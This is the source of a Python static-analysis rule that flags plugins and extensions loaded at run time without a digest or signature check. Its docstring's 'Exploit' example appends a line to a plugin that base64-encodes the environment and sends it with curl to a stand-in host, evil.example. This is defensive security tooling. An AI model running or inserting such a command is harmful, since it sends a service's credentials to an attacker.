from __future__ import annotations

import ast
import re
from typing import TYPE_CHECKING

from ...rule import Rule, Severity, option
from ...shapes import last_name
from .dynamic_imports import dynamic_imports, shown

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ...answers import Caller
    from ...file import File
    from ...rule import Related, Violation

_OWN_NAMES = frozenset(("__name__", "__package__", "__path__", "__file__", "__spec__"))
_OWN_ATTRIBUTES = frozenset(("__path__", "__file__", "__module__", "__name__", "__package__", "__qualname__"))
"""Of what is loaded already."""
_LISTED = frozenset(("entry_points", "iter_entry_points", "iter_modules", "walk_packages", "find_spec"))
"""What these give is installed; whoever installed it has been checked by the installer."""
_FROM_FILE = (
    "importlib.util.spec_from_file_location",
    "importlib.machinery.SourceFileLoader",
    "importlib.machinery.SourcelessFileLoader",
    "importlib.machinery.ExtensionFileLoader",
)
_RUNS_FILE = "runpy.run_path"
_DIGESTS = frozenset(
    """
    hashlib hmac md5 sha1 sha256 sha384 sha512 sha3_256 sha3_512 blake2b blake2s file_digest compare_digest cryptography
    nacl gnupg pgpy verify_signature InvalidSignature VerifyKey
    """.split()
)
_VERIFIES = re.compile(
    r"(?i)verif|checksum|signature|integrity|compare_digest|check_(?:hash|digest|sha)|_hash_(?:ok|matches)"
)
_LIBRARIES = frozenset(("hashlib", "hmac", "cryptography", "nacl", "gnupg", "pgpy"))
_KINDS = tuple(
    re.compile(rf"(?i)(?<![a-z])(?:{words})s?(?![a-z])")
    for words in ("plug_?in", "ext|extension", "add_?on", "skill", "custom_?(?:component|node)")
)
"""What programs call code that others write for them."""
_CAPITAL = re.compile(r"(?<=[a-z0-9])(?=[A-Z])")
_OPERATORS = re.compile(r"(?i)environ|getenv|settings|config|argv|(?<![a-z])args(?![a-z])|options")
"""Where those who run a program say what it is made of."""
_TOOLS = re.compile(
    r"(?:^|/)(?:cli|commands?|scripts?|tools|tests?|testing|benchmarks?|examples?|migrations?)(?:/|\.py|_)"
)
"""Programs that developers call with their own files."""
_FUNCTIONS = (ast.FunctionDef, ast.AsyncFunctionDef)


class UnverifiedDynamicImport(Rule):
    """Code that the program has fetched is run, and nothing checks before that it is the right one.

    Reported are plugins, extensions and the like that are loaded by a name or a path which is only known at run time,
    where the project itself fetches such archives and unpacks them: whoever answers in the place of that server, or can
    write into the folder, runs code in the service with all that it may do. Keep a list of the digests, or sign the
    files, and compare before the module is run. Names may be looked up in a fixed set, or begin with the own package.
    Modules of the own package and entry points are not reported; what comes straight from a request is FAR032. Most
    programs trust those who write their configuration: where yours must not, `configured` reports every module that a
    setting, an argument or a row names.

    Bad:

        import importlib.util
        import shutil
        from urllib.request import urlretrieve

        def install_plugin(address: str, folder: str):
            archive, _ = urlretrieve(address)
            shutil.unpack_archive(archive, folder, "zip")

        def load_plugin(path: str):
            spec = importlib.util.spec_from_file_location("plugin", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module

    Good:

        import hashlib
        import hmac
        import importlib.util
        import shutil
        from pathlib import Path
        from urllib.request import urlretrieve

        DIGESTS = {"prices.py": "9f2b3c…"}

        def install_plugin(address: str, folder: str):
            archive, _ = urlretrieve(address)
            shutil.unpack_archive(archive, folder, "zip")

        def load_plugin(path: Path):
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            if not hmac.compare_digest(digest, DIGESTS.get(path.name, "")):
                raise PermissionError(f"{path} is not the plugin that was released")
            spec = importlib.util.spec_from_file_location("plugin", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module

    Exploit:

        $ echo 'import os; os.system("curl evil.example/?$(env | base64 -w0)")' >> /srv/shop/plugins/prices.py
        $ systemctl restart shop                     # the environment with all credentials is sent away
    """

    code = "FAR150"
    severity = Severity.BLOCKER
    cwe = 494
    cvss = "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H"
    message = (
        "`{call}` runs {what} `{place}`, and nothing compares it with a digest, a signature or a fixed set before: who "
        "can write there runs code in the service"
    )
    configured: bool = option(False, "Also report what settings, arguments, callers or rows name.")

    markers = (("exec_module", "import_module", "__import__", "run_path", "run_module"),)

    def check(self, file: File) -> Iterator[Violation]:
        if _TOOLS.search(file.path):
            return
        requested: set[ast.AST] | None = None
        for call in dynamic_imports(file):
            what, place = _place(file, call)
            if place is None or _is_known(file, call, place) or _is_checked(file, call):
                continue
            function = file.function(call)
            if function is not None and file.registered_as(function) is not None:
                continue
            if requested is None:
                requested = {reached.node for reached in file.reached("FAR032")}
            if not requested.isdisjoint((call, *file.within(call))):
                continue
            fetched = _fetched(file, call, place)
            if fetched is not None or self.configured:
                yield self.at(
                    call,
                    call=shown(file, call),
                    what=what,
                    place=_named(file, place),
                    related=[] if fetched is None else [fetched],
                )


def _fetched(file: File, call: ast.Call, place: ast.expr) -> Related | None:
    """Where the project unpacks what this seems to load; None when it is named by somebody who runs the program."""
    function = file.function(call)
    names = [file.path, getattr(function, "name", ""), getattr(file.enclosing(call, ast.ClassDef), "name", "")]
    for node in _origins(file, [place, *call.args[:1]]):
        name = last_name(node)
        if _OPERATORS.search(name):
            return None
        names.append(name)
    for kind in _KINDS:
        if any(kind.search(_CAPITAL.sub("_", name)) for name in names) and (found := file.unpacks(kind)) is not None:
            return found
    return None


def _place(file: File, call: ast.Call) -> tuple[str, ast.expr | None]:
    """The file that is run, the folder that a name is looked up in, or the name; None where none of them is known."""
    if file.is_named(call.func, _RUNS_FILE):
        return "the file", call.args[0]
    if not (isinstance(call.func, ast.Attribute) and call.func.attr == "exec_module"):
        folder = _added_folder(file, call)
        return ("the module that is named by", call.args[0]) if folder is None else ("what is found in", folder)
    for node in _origins(file, [call.func.value, *call.args]):
        if isinstance(node, ast.Call) and file.is_named(node.func, *_FROM_FILE):
            return "the file", file.argument(node, 1, "location") or file.argument(node, 1, "path")
    return "", None


def _added_folder(file: File, call: ast.Call) -> ast.expr | None:
    """The folder that the same function puts on `sys.path` before."""
    function = file.function(call)
    if function is None or "sys.path" not in file.text:
        return None
    for change in file.within(function, ast.Call):
        match change:
            case ast.Call(func=ast.Attribute(value=owner, attr="insert" | "append"), args=[*_, folder]) if file.name_of(
                owner
            ) == "sys.path" and file.flow(function).can_reach(*_statements(file, change, call)):
                return folder
    return None


def _statements(file: File, first: ast.AST, second: ast.AST) -> tuple[ast.stmt, ast.stmt]:
    return file.statement(first), file.statement(second)


def _origins(file: File, expressions: list[ast.expr]) -> Iterator[ast.AST]:
    """All that the values are computed from in this file, loops included."""
    seen: set[ast.AST] = set()
    pending: list[ast.AST] = list(expressions)
    while pending:
        current = pending.pop()
        if current in seen or isinstance(current, (*_FUNCTIONS, ast.ClassDef)):
            continue
        seen.add(current)
        yield current
        for node in (current, *file.within(current)):
            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Load):
                pending += file.binding_nodes(node)
            if node is not current:
                yield node


def _is_known(file: File, call: ast.Call, place: ast.expr) -> bool:
    """A file of the program itself, a constant, something that is loaded already, or one of a fixed set."""
    if file.value_of(place) is not file.UNKNOWN or any(_begins(file, value) for value in file.values(call.args[0])):
        return True
    function = file.function(call)
    for node in _origins(file, [place, *call.args[:1]]):
        match node:
            case ast.Name(id=name) if name in _OWN_NAMES:
                return True
            case ast.Attribute(attr=name) if name in _OWN_ATTRIBUTES or name in ("origin", "argv"):
                return True
            case ast.Call(func=ast.Attribute(attr=name) | ast.Name(id=name)) if name in _LISTED:
                return True
            case ast.Subscript(value=table) if isinstance(file.value_of(table), dict):
                return True
            case ast.Call(func=ast.Attribute(value=table, attr="get")) if isinstance(file.value_of(table), dict):
                return True
            case ast.Name() | ast.Attribute() if isinstance(file.value_of(node), (dict, tuple, list)):
                return True
            case ast.Call(func=ast.Attribute(attr=name) | ast.Name(id=name)) if "temp" in name.lower():
                return True
    return function is not None and _is_chosen(file, function, call, place)


def _begins(file: File, name: ast.AST) -> bool:
    """The name begins with a package that is written out: `f"shop.plugins.{name}"`."""
    match name:
        case ast.JoinedStr(values=[ast.Constant(value=str(start)), *_]):
            return "." in start
        case ast.JoinedStr(values=[ast.FormattedValue(value=first), *_]) | ast.BinOp(left=first, op=ast.Add()):
            start = file.value_of(first)
            return isinstance(start, str) and bool(start)
        case ast.Call(func=ast.Attribute(value=ast.Constant(value=str(start)), attr="format")):
            return "." in start.partition("{")[0]
        case ast.BinOp(left=ast.Constant(value=str(start)), op=ast.Mod()):
            return "." in start.partition("%")[0]
    return False


def _is_chosen(file: File, function: ast.AST, call: ast.Call, place: ast.expr) -> bool:
    """The file or its name has been looked for in a list on every path to here, and refused if it was not there."""
    names = {node.id for node in _origins(file, [place, *call.args[:1]]) if isinstance(node, ast.Name)}

    def chooses(part: ast.AST) -> bool:
        return any(
            any(isinstance(node, ast.Name) and node.id in names for node in file.within(test.left))
            and file.name_of(test.comparators[0]) not in ("sys.path", "sys.modules")
            and _refuses(file, function, call, test)
            for test in file.within(part, ast.Compare)
        )

    return file.flow(function).always_passes(None, chooses, to=file.statement(call))


def _refuses(file: File, function: ast.AST, call: ast.Call, test: ast.Compare) -> bool:
    """`if name not in KNOWN: raise`, `if name in KNOWN:` around the call."""
    around = set(file.ancestors(call))
    match test.ops, file.statement(test):
        case [ast.In()], ast.If(body=body):
            return not around.isdisjoint(body)
        case [ast.NotIn()], ast.If(body=body, orelse=orelse):
            return not file.flow(function).part(body).falls_through(body) or not around.isdisjoint(orelse)
        case [ast.In()], ast.Assert():
            return True
    return False


def _is_checked(file: File, call: ast.Call) -> bool:
    """A digest or a signature is compared on every path to here, or in whoever calls the function."""
    function = file.function(call)
    if not isinstance(function, _FUNCTIONS):
        return any(_checks(file, statement) for statement in file.tree.body if statement.lineno < call.lineno)
    if file.flow(function).always_passes(None, lambda part: _checks(file, part), to=file.statement(call)):
        return True
    callers = file.callers(function)
    return bool(callers) and all(_has_checked(file, caller) for caller in callers)


def _has_checked(file: File, caller: Caller) -> bool:
    return any(_VERIFIES.search(name.rpartition(".")[2]) for name in caller.names) or any(
        file.body_mentions(definition, _DIGESTS) for definition in caller.called
    )


def _checks(file: File, part: ast.AST) -> bool:
    """Whether a step of the function compares a digest or asks for a signature."""
    for node in file.within(part, ast.Compare):
        if any(_is_digest(file, each) for each in _origins(file, [node.left, *node.comparators])):
            return True
    for node in file.within(part, ast.Call):
        name = last_name(node.func)
        if _VERIFIES.search(name):
            return True
        asks = isinstance(part, ast.Expr) or part is node or isinstance(part, (ast.UnaryOp, ast.BoolOp, ast.Assert))
        definition = file.definition_of(node.func) if asks else None
        if definition is not None and not definition.is_class and file.body_mentions(definition, _DIGESTS):
            return True
    return False


def _is_digest(file: File, node: ast.AST) -> bool:
    if not isinstance(node, ast.Call):
        return False
    name = file.resolved(node)
    if name is not None and name.partition(".")[0] in _LIBRARIES:
        return True
    definition = file.definition_of(node.func)
    return definition is not None and not definition.is_class and file.body_mentions(definition, _DIGESTS)


def _named(file: File, place: ast.expr) -> str:
    """The place for a message; of an f-string what it is made of."""
    if isinstance(place, ast.JoinedStr):
        place = next((part.value for part in place.values if isinstance(part, ast.FormattedValue)), place)
    text = " ".join(file.source(place).split())
    return text if len(text) <= 40 and "{" not in text else "…"
